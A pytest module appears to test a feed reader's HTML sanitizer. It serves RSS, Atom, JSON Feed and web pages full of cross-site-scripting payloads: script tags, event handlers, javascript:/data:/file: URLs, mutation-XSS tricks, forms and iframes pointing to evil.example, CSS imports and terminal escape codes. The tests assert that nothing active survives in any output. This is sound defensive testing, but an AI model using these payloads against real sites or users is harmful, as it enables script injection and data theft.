"""Feeds whose titles, links and content carry active content (spec section 7), through every output.

One RSS 2.0, one Atom and one JSON Feed, each full of payloads, are fetched and enriched; every entry
is picked and starred; then everything a user or a program can read is checked: the stored
content_html (parsed: only inert tags, no event handler, no style, no URL but http(s)/mailto), `show`,
`show --json`, `list --json`, `sources`, `search`, the JSON export, and the published readme, digest,
Atom feed and static site. Every active part of a payload carries the word PWNED, so "PWNED appears
nowhere" means no script, handler, javascript:/data:/file: URL, iframe, form, meta refresh, <base>,
stylesheet or SVG handler survived anywhere, in any form. The content that is not active (the words
around each payload) does survive.
"""

from __future__ import annotations

import json
import re
from xml.sax.saxutils import escape

import pytest

from tests.hostile.fixtures import *  # noqa: F403 - the suite's fixtures
from tests.hostile.helpers import MARK, assert_inert_html, entries, everything_shown, sources

# Each payload: (HTML, a word of harmless text that must survive it, or None).
PAYLOADS = [
    ("<p>script kept-1</p><script>alert('PWNED')</script><script src='https://evil.example/PWNED.js'></script>", "kept-1"),
    ("<p onclick=\"PWNED()\" onmouseover='PWNED()'>handlers kept-2</p>", "kept-2"),
    ("<img src='https://img.example/a.png' onerror='PWNED()' alt='kept-3'>", None),
    ("<a href='javascript:PWNED()'>js link kept-4</a><a href=' JaVaScRiPt:PWNED()'>x</a>"
     "<a href='java&#x09;script:PWNED()'>y</a><a href='&#106;avascript:PWNED()'>z</a>", "kept-4"),
    ("<a href='data:text/html;base64,UFdORUQ='>data link kept-5</a><img src='data:image/svg+xml,<svg onload=PWNED()>'>"
     "<a href='vbscript:PWNED'>v</a>", "kept-5"),
    ("<svg onload='PWNED()'><script>PWNED()</script><a xlink:href='javascript:PWNED()'><text>svg kept-6</text></a>"
     "<animate onbegin='PWNED()' attributeName='href' to='javascript:PWNED()'/></svg>", None),
    ("<iframe src='https://evil.example/PWNED' srcdoc='&lt;script&gt;PWNED()&lt;/script&gt;'></iframe>"
     "<p>iframe kept-7</p><frameset onload='PWNED()'></frameset><object data='https://evil.example/PWNED.swf'></object>"
     "<embed src='https://evil.example/PWNED.swf'>", "kept-7"),
    ("<meta http-equiv='refresh' content='0;url=https://evil.example/PWNED'><base href='https://evil.example/PWNED/'>"
     "<link rel='stylesheet' href='https://evil.example/PWNED.css'><p>head tags kept-8 <a href='/relative'>rel</a></p>",
     "kept-8"),
    ("<style>@import url('https://evil.example/PWNED.css'); body { display: none } /* PWNED */</style>"
     "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:url('https://evil.example/PWNED')\">"
     "overlay kept-9</div><span style='behavior:url(PWNED.htc)'>s</span>", "kept-9"),
    ("<form action='https://evil.example/PWNED' method='post'><input name='PWNED' value='PWNED' autofocus "
     "onfocus='PWNED()'><button formaction='javascript:PWNED()'>form kept-10</button></form>", "kept-10"),
    ("<a href='file:///etc/passwd?PWNED'>file link kept-11</a><img src='file:///PWNED.png'>", "kept-11"),
    ("<details open ontoggle='PWNED()'><summary>details kept-12</summary></details><video><source onerror='PWNED()'>"
     "</video><marquee onstart='PWNED()'>m</marquee><body onload='PWNED()'>", "kept-12"),
    ("<math><mtext><table><mglyph><style><img src=x onerror=PWNED()></style></mglyph></table></mtext></math>"
     "<p>mxss kept-13</p>", "kept-13"),
    ("<noscript><p title=\"</noscript><img src=x onerror=PWNED()>\"></p></noscript><p>noscript kept-14</p>", "kept-14"),
    ("<template><script>PWNED()</script></template><p>template kept-15</p>", "kept-15"),
    ("<a href='https://ok.example/post' onclick='PWNED()' style='color:red' target='_top'>good link kept-16</a>",
     "kept-16"),
    ("<!-- PWNED comment --><p>comment kept-17</p><![CDATA[PWNED]]>", "kept-17"),
    ("<img srcset='javascript:PWNED() 1x' src='https://img.example/b.png'><p>srcset kept-18</p>", "kept-18"),
]

TITLES = [
    "<script>alert('PWNED')</script>Title one",
    "Title two <img src=x onerror=PWNED()>",
    "&lt;script&gt;shown-as-text&lt;/script&gt;Title three",  # escaped markup: the title's visible text
    "Title \x1b]0;evil\x07four \x1b[2J",  # terminal escapes: set the window title, clear the screen
    "<svg onload=PWNED()>Title five",
]
TEXT_TITLE = "<script>shown-as-text</script>Title three"
LINKS = ["javascript:PWNED()", " JavaScript:PWNED()", "data:text/html,PWNED", "file:///PWNED", "vbscript:PWNED",
         "https://ok.example/post-six"]


def hostile_rss() -> str:
    items = []
    for index, (payload, _kept) in enumerate(PAYLOADS):
        title = TITLES[index % len(TITLES)]
        link = LINKS[index % len(LINKS)]
        items.append(
            f"<item><title><![CDATA[{title}]]></title><link>{escape(link)}</link><guid>rss-{index}</guid>"
            f"<author>ann@x.example (&lt;script&gt;PWNED&lt;/script&gt;Ann \x1b[2J)</author>"
            f"<description>{escape(payload)}</description></item>")
    return ('<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel>'
            "<title><![CDATA[Hostile <script>PWNED()</script>Feed \x1b[31m]]></title>"
            "<link>javascript:PWNED()</link><description>d</description>" + "".join(items) + "</channel></rss>")


def hostile_atom() -> str:
    entries_xml = []
    for index, (payload, _kept) in enumerate(PAYLOADS):
        entries_xml.append(
            f'<entry><id>urn:atom:{index}</id><title type="html">{escape(TITLES[index % len(TITLES)])}</title>'
            f'<updated>2026-02-0{1 + index % 9}T00:00:00Z</updated>'
            f'<link rel="alternate" href="{escape(LINKS[(index + 1) % len(LINKS)])}"/>'
            f'<content type="html" xml:base="javascript:PWNED//">{escape(payload)}</content></entry>')
        # The same payload as XHTML: markup as XML elements, not escaped text.
        if index % 3 == 0:
            xhtml = payload.replace("<br>", "<br/>")
            entries_xml.append(
                f'<entry><id>urn:atom:x{index}</id><title>XHTML {index}</title><updated>2026-02-01T00:00:00Z</updated>'
                f'<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">{_xmlish(xhtml)}</div></content>'
                f"</entry>")
    return ('<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom">'
            '<title type="html">&lt;b onclick="PWNED()"&gt;Atom&lt;/b&gt; hostile</title><id>urn:atom</id>'
            '<link rel="alternate" href="data:text/html,PWNED"/><updated>2026-02-01T00:00:00Z</updated>'
            + "".join(entries_xml) + "</feed>")


def _xmlish(markup: str) -> str:
    """Close void elements and drop what XML cannot hold, so the payload parses as XHTML."""
    markup = re.sub(r"<(img|input|embed|meta|base|link|source)([^>]*?)/?>", r"<\1\2/>", markup)
    markup = markup.replace("<![CDATA[PWNED]]>", "").replace("<!-- PWNED comment -->", "")
    return re.sub(r"(\s[\w:-]+)=([^'\"\s>]+)", r'\1="\2"', markup).replace("&#x09;", "&#9;")


def hostile_json_feed() -> str:
    items = [{"id": f"json-{index}", "url": LINKS[(index + 2) % len(LINKS)], "title": TITLES[index % len(TITLES)],
              "content_html": payload, "summary": "<img src=x onerror=PWNED()>summary",
              "authors": [{"name": "<script>PWNED</script>Bo", "url": "javascript:PWNED()"}]}
             for index, (payload, _kept) in enumerate(PAYLOADS)]
    items.append({"id": "json-text", "url": "https://ok.example/text", "title": "Plain text item",
                  "content_text": "<script>alert(1)</script> and <form action=x> stay visible as text kept-19"})
    return json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "JSON <script>PWNED</script>",
                       "home_page_url": "javascript:PWNED()", "items": items})


def _one_library_per(fixture_name: str, config) -> str:
    """Once per module; on PostgreSQL once per test, since each test's libraries are schemas of its own."""
    from tests.conftest import ENGINE

    return "function" if ENGINE == "postgresql" else "module"


@pytest.fixture(scope=_one_library_per)
def hostile_library(tmp_path_factory):
    """The three hostile feeds fetched, enriched, picked and starred, and every output published, once."""
    from tests.conftest import FixtureServer

    home = tmp_path_factory.mktemp("hostile") / "library"
    out = tmp_path_factory.mktemp("published")
    server = FixtureServer()
    server.httpd.handle_error = lambda request, client_address: None
    runner = _ModuleCli(home)
    try:
        from tests.hostile.helpers import write_config

        write_config(home, extra='\n[publish]\nsite_url = "https://reading.example/"\n')
        for path, body, kind in (("/rss.xml", hostile_rss(), "application/rss+xml"),
                                 ("/atom.xml", hostile_atom(), "application/atom+xml"),
                                 ("/feed.json", hostile_json_feed(), "application/feed+json")):
            server.serve(path, body, content_type=kind)
            added = runner("add", server.url(path))
            assert added.code == 0, added.err
        fetched = runner("fetch")
        assert fetched.code == 0 and "failed" not in fetched.err, fetched.err
        ids = [str(row["id"]) for row in entries(runner)]
        assert runner("pick", *ids).code == 0 and runner("star", *ids).code == 0
        week = runner("list", "--picked", "--json", "--limit", "1").json[0]["picked_at"]
        from datetime import datetime

        iso = datetime.fromisoformat(week.replace("Z", "+00:00")).isocalendar()
        published = {}
        for what, target in (("readme", out / "README.md"), ("digest", out / "digest.md"),
                             ("feed", out / "feed.xml"), ("site", out / "site")):
            args = ["publish", what, "--out", str(target)]
            if what == "digest":
                args += ["--week", f"{iso.year}-W{iso.week:02d}"]
            result = runner(*args)
            assert result.code == 0, result.err
            published[what] = target
        yield runner, home, published
    finally:
        server.close()


class _ModuleCli:
    """The `cli` fixture's behaviour for a module-scoped library: run main() in-process, capture output."""

    def __init__(self, home) -> None:
        self.home = home

    def __call__(self, *args: str):
        import contextlib
        import io
        import os

        from blogreader.cli import main
        from tests.conftest import Result

        out, err = io.StringIO(), io.StringIO()
        saved = os.environ.get("BLOGREADER_ALLOW_PRIVATE_NETWORKS")
        os.environ["BLOGREADER_ALLOW_PRIVATE_NETWORKS"] = "1"
        try:
            with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
                try:
                    main(["--home", str(self.home), *args])
                    code = 0
                except SystemExit as exc:
                    code = exc.code if isinstance(exc.code, int) else (0 if exc.code is None else 1)
        finally:
            if saved is None:
                os.environ.pop("BLOGREADER_ALLOW_PRIVATE_NETWORKS", None)
            else:
                os.environ["BLOGREADER_ALLOW_PRIVATE_NETWORKS"] = saved
        return Result(code, out.getvalue(), err.getvalue())


def test_every_hostile_item_was_stored(hostile_library):
    runner, _home, _published = hostile_library
    rows = entries(runner)
    assert len([row for row in rows if row["parent_id"] is None]) >= 2 * len(PAYLOADS) + 1
    assert all(source["error_count"] == 0 for source in sources(runner))


def test_stored_content_is_inert_and_keeps_the_harmless_text(hostile_library):
    runner, _home, _published = hostile_library
    texts = []
    for row in entries(runner):
        shown = runner("show", str(row["id"]), "--json").json
        assert_inert_html(shown["content_html"] or "")
        assert MARK not in (shown["content_html"] or ""), shown["content_html"]
        texts.append(shown["text"] or "")
    every_text = "\n".join(texts)
    for _payload, kept in PAYLOADS:
        if kept:
            assert kept in every_text, kept


def test_no_active_part_survives_anywhere_a_user_reads(hostile_library):
    runner, _home, _published = hostile_library
    shown = everything_shown(runner) + runner("search", "kept", "--json").out + runner("list").out
    assert MARK not in shown
    assert "\x1b" not in shown and "\x07" not in shown


def test_links_are_http_or_nothing(hostile_library):
    runner, _home, _published = hostile_library
    for row in entries(runner):
        assert row["url"] is None or row["url"].startswith(("https://", "http://")), row["url"]
    for source in sources(runner):
        assert source["site_url"] is None or source["site_url"].startswith(("https://", "http://"))
        assert "<" not in (source["title"] or "")


def test_plain_text_content_is_shown_as_text(hostile_library):
    runner, _home, _published = hostile_library
    [row] = [row for row in entries(runner) if row["title"] == "Plain text item"]
    shown = runner("show", str(row["id"]), "--json").json
    assert "<script" not in shown["content_html"] and "<form" not in shown["content_html"]
    assert "&lt;script&gt;" in shown["content_html"]
    assert "<script>alert(1)</script>" in shown["text"]  # the author's words, as words


def test_published_outputs_carry_nothing_active(hostile_library):
    _runner, _home, published = hostile_library
    files = [published["readme"], published["digest"], published["feed"], *sorted(published["site"].rglob("*.*"))]
    assert len(files) > 5
    for path in files:
        text = path.read_text(encoding="utf-8")
        assert MARK not in text, path
        assert "\x1b" not in text, path
        # Markdown escapes a "<" that would start raw HTML with a backslash: only unescaped ones count.
        lowered = re.sub(r"\\<", "", text.lower()) if path.suffix == ".md" else text.lower()
        for active in ("<script", "javascript:", "<iframe", "<form", "<svg", "<object", "<embed", "<base",
                       "http-equiv=\"refresh", "@import", "data:text"):
            assert active not in lowered, (path, active)
        if path.suffix == ".html":
            assert re.search(r"\son\w+\s*=", text) is None, path
            assert "Content-Security-Policy" in text


def test_the_published_atom_feed_parses_and_carries_text_only(hostile_library):
    import feedparser

    _runner, _home, published = hostile_library
    parsed = feedparser.parse(published["feed"].read_bytes())
    assert not parsed.bozo, parsed.get("bozo_exception")
    assert parsed.entries
    for entry in parsed.entries:
        assert MARK not in json.dumps(entry, default=str)
        for link in entry.get("links", []):
            assert link["href"].startswith("https://")


def test_a_title_whose_text_is_markup_stays_text_in_every_output(hostile_library):
    """Escaped markup in a title is the title's text: shown as written, escaped for each format."""
    runner, _home, published = hostile_library
    assert TEXT_TITLE in {row["title"] for row in entries(runner)}
    assert "\\<script>shown-as-text\\</script>Title three" in published["readme"].read_text(encoding="utf-8")
    assert "&lt;script&gt;shown-as-text&lt;/script&gt;Title three" in (published["site"] / "index.html").read_text(
        encoding="utf-8")
    import feedparser

    titles = {entry.title for entry in feedparser.parse(published["feed"].read_bytes()).entries}
    assert TEXT_TITLE in titles


def test_the_web_app_serves_hostile_entries_inert(hostile_library, monkeypatch):
    """`blogreader serve` over the same library: every page has its CSP and nosniff, and no active part."""
    from blogreader.config import load_settings
    from tests.conftest import ENGINE
    from tests.hostile.helpers import WebApp

    runner, home, _published = hostile_library
    if ENGINE == "postgresql":  # the server process opens this library's schema, not the test's `home`
        monkeypatch.setenv("BLOGREADER_DATABASE_URL", load_settings(home).database)
    app = WebApp(home)
    try:
        paths = ["/", "/?state=all", "/collection", "/sources", "/search?q=kept"]
        paths += [f"/entries/{row['id']}" for row in entries(runner)]
        for path in paths:
            status, headers, body = app.get(path)
            assert status == 200, (path, status)
            assert "content-security-policy" in headers and headers.get("x-content-type-options") == "nosniff"
            assert MARK not in body, (path, body[body.find(MARK) - 300: body.find(MARK) + 100])
            assert "javascript:" not in body.lower(), path
            assert "\x1b" not in body, path
    finally:
        app.stop()


def _hostile_article() -> str:
    return ("<html><head><title>Article <script>PWNED()</script>title</title>"
            "<meta name='description' content='<img src=x onerror=PWNED()>A description.'>"
            "<base href='javascript:PWNED//'><meta http-equiv='refresh' content='0;url=javascript:PWNED()'></head>"
            "<body><article><h1>Hostile article</h1>"
            + "".join(f"<p>Paragraph {index} has enough plain words to be kept as the article body.</p>{payload}"
                      for index, (payload, _kept) in enumerate(PAYLOADS))
            + "</article></body></html>")


def _hostile_listing() -> str:
    links = ["/posts/a/", "javascript:PWNED()", "/posts/b/", "data:text/html,PWNED", "/posts/c/", "/posts/d/",
             "file:///etc/passwd"]
    return ("<html><head><title>Listing <script>PWNED()</script>\x1b]0;evil\x07</title></head><body><main>" + "".join(
        f"<article class='post'><h2><a href='{href}' onclick='PWNED()'>Post {index} <script>PWNED()</script>"
        f"<img src=x onerror=PWNED()></a></h2><p>Excerpt {index} <b onclick='PWNED()'>bold</b> &lt;i&gt;kept&lt;/i&gt;"
        f"</p><time datetime='2026-01-0{index + 1}'>Jan {index + 1}, 2026</time></article>"
        for index, href in enumerate(links)) + "</main></body></html>")


def test_a_hostile_article_page_is_saved_inert(cli, server, library):
    url = server.serve("/article.html", _hostile_article(), content_type="text/html")
    result = cli("save", url)
    assert result.code == 0, result.err
    [entry] = entries(cli)
    shown = cli("show", str(entry["id"]), "--json").json
    assert_inert_html(shown["content_html"])
    assert "Paragraph 3 has enough plain words" in shown["text"]
    assert MARK not in everything_shown(cli)


def test_a_hostile_listing_page_gives_inert_entries_with_http_links_only(cli, server, library):
    url = server.serve("/blog/", _hostile_listing(), content_type="text/html")
    added = cli("add", url)
    assert added.code == 0 and "listing" in added.out, added.out + added.err
    assert "\x1b" not in added.out and MARK not in added.out
    assert sources(cli)[0]["title"] == "Listing ]0;evil"  # tags and control characters gone, the text left
    assert cli("fetch", "--no-enrich").code == 0
    rows = entries(cli)
    assert {row["title"] for row in rows} >= {"Post 0", "Post 2", "Post 4", "Post 5"}
    assert all(row["url"].startswith(server.url("/posts/")) for row in rows)
    for row in rows:
        assert_inert_html(cli("show", str(row["id"]), "--json").json["content_html"])
    assert MARK not in everything_shown(cli)
